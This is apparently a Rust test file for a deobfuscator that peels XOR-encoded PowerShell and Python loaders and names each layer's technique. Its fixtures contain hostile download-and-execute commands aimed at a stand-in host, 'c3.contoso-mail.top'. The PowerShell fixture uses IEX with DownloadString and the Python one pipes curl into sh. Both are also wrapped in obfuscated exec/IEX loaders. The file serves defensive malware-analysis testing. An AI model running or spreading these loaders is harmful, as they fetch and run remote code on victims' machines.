//! Which layers a sample is told to have: their techniques and languages, and what comes out of them.

use deobfuscator::Deobfuscator;
use module_kit::{Call, Module};
use serde_json::{Value, json};

const COMMAND: &str = "IEX (New-Object Net.WebClient).DownloadString('http://c3.contoso-mail.top/a.ps1')";
const PROGRAM: &str = "import os\nos.system('curl http://c3.contoso-mail.top/p | sh')\n";

fn analyze(sample: impl AsRef<[u8]>, name: &str) -> Value {
    let sample = sample.as_ref();
    let info = json!({"size": sample.len(), "name": name});
    let call = Call::parse(&json!({"function": "analyze", "sample": info}).to_string()).expect("a call");
    serde_json::to_value(&Deobfuscator::analyze(&call, Some(sample)).expect("an answer")).expect("JSON")
}

/// Technique and content of each layer.
fn layers(sample: impl AsRef<[u8]>, name: &str) -> Vec<(String, String)> {
    let output = analyze(sample, name);
    let told = |layer: &Value, what: &str| layer[what].as_str().unwrap_or_default().to_owned();
    let layers = output["data"]["layers"].as_array().expect("layers");
    layers.iter().map(|layer| (told(layer, "technique"), told(layer, "after"))).collect()
}

/// The techniques, and the content of the last layer.
fn peeled(sample: impl AsRef<[u8]>, name: &str) -> (Vec<String>, String) {
    let layers = layers(sample, name);
    let last = layers.last().map(|layer| layer.1.clone()).unwrap_or_default();
    (layers.into_iter().map(|layer| layer.0).collect(), last)
}

/// Numbers of bytes under a key of one byte.
fn locked(text: &str, key: u8) -> String {
    text.bytes().map(|byte| (byte ^ key).to_string()).collect::<Vec<_>>().join(", ")
}

#[test]
fn encrypted_numbers_are_no_layer_beside_what_they_are_decrypted_to() {
    let numbers = locked(COMMAND, 0x23);
    for script in [
        format!("$d=[byte[]]({numbers})|%{{$_ -bxor 0x23}}\nIEX ([Text.Encoding]::ASCII.GetString($d))\n"),
        format!("$b=@({numbers}); IEX (($b | %{{[char]($_ -bxor 0x23)}}) -join '')\n"),
    ] {
        let layers = layers(&script, "a.ps1");
        assert!(layers.iter().any(|layer| layer.1 == COMMAND), "{layers:?}");
        assert!(layers.iter().all(|layer| layer.1.contains(COMMAND) || layer.1.contains("IEX")), "{layers:?}");
    }
    let numbers = locked(PROGRAM, 35);
    for script in [
        format!("k=35\nd=[{numbers}]\nexec(''.join(chr(c^k) for c in d))\n"),
        format!("d=[{numbers}]\nexec(b'# \\n' + bytes(b ^ 35 for b in d) + b'\\n#')\n"),
    ] {
        let (techniques, last) = peeled(&script, "a.py");
        assert_eq!(techniques, ["eval"], "{script}");
        assert!(last.contains(PROGRAM.trim()), "{last}");
    }
    // Where nothing else shows it, the key is found, and the bytes between are on the way to it.
    let (techniques, last) = peeled(format!("x(d=[{numbers}])\nimport os\n"), "a.py");
    assert_eq!((techniques, last), (vec!["charcode".to_owned(), "xor".to_owned()], PROGRAM.to_owned()));
}
